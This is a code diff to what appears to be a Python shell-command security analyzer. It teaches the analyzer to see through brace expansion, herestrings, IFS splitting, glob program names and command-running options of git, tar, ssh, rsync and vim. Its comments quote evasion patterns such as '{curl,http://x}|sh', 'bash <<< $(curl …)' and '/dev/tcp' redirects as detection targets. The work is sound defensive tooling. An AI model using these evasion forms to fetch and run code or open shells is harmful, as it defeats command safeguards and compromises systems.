@@ -32,6 +32,7 @@ SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "
 _LANGUAGE = ts.Language(tsb.language())
 _URL_RE = re.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"<>|;)]+")
 _UNQUOTED_SPLIT = "\x00"
+_BRACE_LIST = re.compile(r"([^'\"\\$`{}\s]*)\{([^'\"\\$`{}\s]*,[^'\"\\$`{}\s]*)\}([^'\"\\$`{}\s]*)")
 
 
 @dataclass
@@ -94,6 +95,14 @@ class _Walker:
         src = _safe_source(text)
         tree = self.parser.parse(src)
         root = tree.root_node
+        if root.has_error and b"{" in src:
+            # `{curl,http://x}|sh`: a brace list as the command word is valid bash (brace expansion)
+            # but not tree-sitter syntax; spell it out with spaces (same length) and reparse
+            src2 = _BRACE_CMD.sub(lambda m: m.group(1) + b" " + m.group(2).replace(b",", b" ") + b" ", src)
+            if src2 != src:
+                tree2 = self.parser.parse(src2)
+                if not tree2.root_node.has_error:
+                    tree, root, src = tree2, tree2.root_node, src2
         if root.has_error and b"<>" in src:
             # `exec 3<>/dev/tcp/h/p`: tree-sitter-bash lacks the read-write redirect; read it as `<`
             # (same length, so every byte offset still points into the real text)
@@ -258,11 +267,7 @@ class _Walker:
                     self.feed(target, body_text, depth)
             elif r.type == "herestring_redirect":
                 if target is not None:
-                    vals, dyn = self.herestring(r, via, depth, sd)
-                    target.redirects.append(Redirect("<<<", ""))
-                    if not dyn:
-                        target.stdin_text = vals + "\n"
-                        self.feed(target, target.stdin_text, depth)
+                    self.herestring_into(target, r, via, depth, sd)
             elif r.type == "file_redirect" and target is not None:
                 self.file_redirect(r, target, via, depth, sd)
         if tail_stages and target is not None:
@@ -277,6 +282,16 @@ class _Walker:
         if not quoted:
             raw = unescape_double_quoted(raw)
         return raw
+
+    def herestring_into(self, target: _Draft, r: ts.Node, via: str, depth: int, sd: int) -> None:
+        before = len(self.drafts)
+        vals, dyn = self.herestring(r, via, depth, sd)
+        target.redirects.append(Redirect("<<<", ""))
+        # `bash <<< $(curl …)`: what those commands print is this program's stdin
+        target.upstream.extend(d.argv[0] for d in self.drafts[before:] if d.argv and d is not target)
+        if not dyn:
+            target.stdin_text = vals + "\n"
+            self.feed(target, target.stdin_text, depth)
 
     def herestring(self, r: ts.Node, via: str, depth: int, sd: int) -> tuple[str, bool]:
         parts, dyn_all = [], False
@@ -319,6 +334,12 @@ class _Walker:
     # ---- words --------------------------------------------------------------------------
     def word(self, node: ts.Node, via: str, depth: int, sd: int, quoted: bool = False) -> tuple[list[str], bool]:
         """Resolve one word node → (fields, dynamic). Unquoted expansions are field-split."""
+        if not quoted and node.type in ("word", "concatenation"):
+            braced = _BRACE_LIST.fullmatch(self.text(node))
+            if braced:
+                # `{curl,http://x}` → curl http://x (brace expansion of a plain comma list)
+                pre, body, post = braced.groups()
+                return [pre + alt + post for alt in body.split(",")], False
         s, dyn = self._word_str(node, via, depth, sd, quoted)
         if _UNQUOTED_SPLIT in s:
             fields = [f for f in s.split(_UNQUOTED_SPLIT) if f != ""]
@@ -370,7 +391,7 @@ class _Walker:
             inner = self.substitution(node, via, depth, sd, "$(…)")
             if inner is None:
                 return self.text(node), True
-            return (inner if quoted else inner.replace(" ", _UNQUOTED_SPLIT)), False
+            return (inner if quoted else self.field_split(inner)), False
         if t == "process_substitution":
             self.substitution(node, via, depth, sd, "<(…)")
             return self.text(node), True
@@ -405,12 +426,12 @@ class _Walker:
                 break
         simple = txt in (f"${name}", "${" + name + "}")
         if name == "IFS" and simple:
-            return (" " if quoted else _UNQUOTED_SPLIT), False
+            return (self.env.get("IFS", " ")[:1] if quoted else _UNQUOTED_SPLIT), False
         if name == "HOME" and simple:
             return "~", False
         if simple and name in self.env:
             v = self.env[name]
-            return (v if quoted else v.replace(" ", _UNQUOTED_SPLIT).replace("\t", _UNQUOTED_SPLIT)), False
+            return (v if quoted else self.field_split(v)), False
         # ${x:-default}, ${x//a/b} …: keep the text; commands inside still run
         for c in node.named_children:
             if c.type in ("command_substitution", "process_substitution"):
@@ -419,6 +440,12 @@ class _Walker:
         if m and m.group(1) not in self.env:
             return m.group(2), True
         return txt, True
+
+    def field_split(self, value: str) -> str:
+        """Mark where an unquoted expansion splits into fields (by $IFS, default blank/tab/newline)."""
+        for ch in self.env.get("IFS", " \t\n") or "":
+            value = value.replace(ch, _UNQUOTED_SPLIT)
+        return value
 
     def substitutions_in(self, node: ts.Node, via: str, depth: int, sd: int) -> None:
         if not self.budget(sd, via):
@@ -522,11 +549,7 @@ class _Walker:
             if r.type == "file_redirect" and draft:
                 self.file_redirect(r, draft[0], via, depth, sd)
             elif r.type == "herestring_redirect" and draft:
-                vals, dyn = self.herestring(r, via, depth, sd)
-                draft[0].redirects.append(Redirect("<<<", ""))
-                if not dyn:
-                    draft[0].stdin_text = vals + "\n"
-                    self.feed(draft[0], draft[0].stdin_text, depth)
+                self.herestring_into(draft[0], r, via, depth, sd)
         return draft
 
     def finish(self, argv: list[str], raw: str, via: str, depth: int, dynamic: bool,
@@ -559,12 +582,12 @@ class _Walker:
         d = _Draft(argv=list(u.argv), raw=raw, via=via, depth=depth,
                    sudo=u.sudo, sudo_user=u.sudo_user, wrappers=u.wrappers, program_path=u.program_path,
                    upstream=list(upstream), args_dynamic=args_dynamic)
-        if any(ch in d.argv[0] for ch in "*?["):
+        if any(ch in d.argv[0] for ch in "*?[") and d.argv[0] not in ("[", "[["):
             # `/???/???/c?rl`: the shell expands the glob to a real program
             hit = glob_program(d.argv[0])
-            self.issue("glob-command", f"program name is a glob pattern: {d.program_path or d.argv[0]}"
-                       + (f" (matches {hit})" if hit else ""), via)
             if hit:
+                self.issue("glob-command", f"program name is a glob pattern: {d.program_path or d.argv[0]}"
+                           f" (matches {hit})", via)
                 d.argv[0] = hit
         self.drafts.append(d)
         self.follow(d, via, depth)
@@ -616,6 +639,8 @@ class _Walker:
                 self.issue("eval-dynamic", f"eval of a value known only at run time: {d.raw[:120]}", via)
             self.nested_shell(" ".join(args), via, depth, "eval", inherit=d)
             return
+        for cmd in _option_commands(prog, args):
+            self.nested_shell(cmd, via, depth, f"{prog} option", inherit=d)
         if prog == "trap" and args and args[0] not in ("-l", "-p"):
             self.nested_shell(args[0], via, depth, "trap handler", inherit=d)
             return
@@ -876,6 +901,61 @@ def _download_targets(prog: str, args: list[str]) -> list[str]:
 _COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "scp", "ditto"})
 
 
+_GIT_EXEC_KEYS = re.compile(r"(?i)(?:core\.(?:pager|sshcommand|editor|fsmonitor|hookspath|askpass)|"
+                            r"sequence\.editor|diff\.external|pager\.\w+|credential\.helper|alias\.[\w-]+|"
+                            r"gpg\.program|uploadpack\.packobjectshook|protocol\.ext\.allow)=(.*)", re.S)
+
+
+def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str]:
+    """Option values a program runs as commands (git -c core.pager=…, tar --checkpoint-action=exec=…,
+    rsync -e …, ssh -o ProxyCommand=…, vim -c ':!…', watch 'cmd', script -c 'cmd')."""
+    out: list[str] = []
+    n = len(args)
+    for i, a in enumerate(args):
+        nxt = args[i + 1] if i + 1 < n else ""
+        if prog == "git" and a == "-c" and nxt:
+            m = _GIT_EXEC_KEYS.fullmatch(nxt)
+            if m and m.group(1) and not m.group(1).lower() in ("true", "false", "less", "cat", "more"):
+                out.append(m.group(1).lstrip("!"))
+        elif prog in ("tar", "gtar", "bsdtar"):
+            for pre in ("--checkpoint-action=exec=", "--to-command=", "--use-compress-program=", "--rsh-command=",
+                        "--info-script=", "--new-volume-script="):
+                if a.startswith(pre):
+                    out.append(a[len(pre):])
+            if a in ("-I", "--use-compress-program", "--to-command") and nxt:
+                out.append(nxt)
+        elif prog == "rsync" and (a in ("-e", "--rsh") and nxt or a.startswith("--rsh=")):
+            out.append(nxt if a in ("-e", "--rsh") else a.split("=", 1)[1])
+        elif prog in ("ssh", "scp", "sftp") and (a == "-o" and nxt or a.startswith("-o") and len(a) > 2):
+            opt = nxt if a == "-o" else a[2:]
+            key, _, val = opt.partition("=") if "=" in opt else opt.partition(" ")
+            if key.strip().lower() in ("proxycommand", "localcommand", "knownhostscommand") and val.strip():
+                out.append(val.strip())
+        elif prog in ("zip",) and a in ("-TT", "--unzip-command") and nxt:
+            out.append(nxt)
+        elif prog in ("vim", "vi", "nvim", "view", "ex", "vimdiff"):
+            cmd = nxt if a in ("-c", "--cmd") else a[1:] if a.startswith("+") else ""
+            cmd = cmd.lstrip(":")
+            if cmd.startswith("!"):
+                out.append(cmd[1:])
+            elif cmd.startswith(("call system(", "call  system(")):
+                out.append(cmd.split("(", 1)[1].rstrip(")").strip("'\""))
+        elif prog in ("man",) and a in ("-P", "--pager") and nxt:
+            out.append(nxt)
+    if prog == "watch":
+        rest = _positionals_after_options(list(args), {"-n", "--interval", "-d", "--differences"})
+        if rest:
+            out.append(" ".join(rest))
+    return out[:8]
+
+
+def _positionals_after_options(args: list[str], valued: set[str]) -> list[str]:
+    i = 0
+    while i < len(args) and args[i].startswith("-") and len(args[i]) > 1:
+        i += 2 if args[i] in valued else 1
+    return args[i:]
+
+
 _SSH_VALUED = frozenset("BbcDEeFIiJLlmOopQRSWw")
 
 
@@ -954,6 +1034,7 @@ def _first_positional(args: list[str]) -> str | None:
 # tree-sitter-bash's scanner crashes (SIGSEGV, heap-dependent) on characters outside the Basic
 # Multilingual Plane; found by fuzzing 0.23–0.25. Such characters are never shell syntax, so they
 # are replaced before parsing (and lone surrogates, which are not valid UTF-8 at all).
+_BRACE_CMD = re.compile(rb"(^|[;&|(\n]\s*)\{([^{}\s'\"$`\\]*,[^{}\s'\"$`\\]*)\}")
 _RW_REDIRECT = re.compile(rb"(\d*)<>(?!>)")
 _UNSAFE_CHARS = re.compile("[\U00010000-\U0010FFFF\ud800-\udfff]")
 
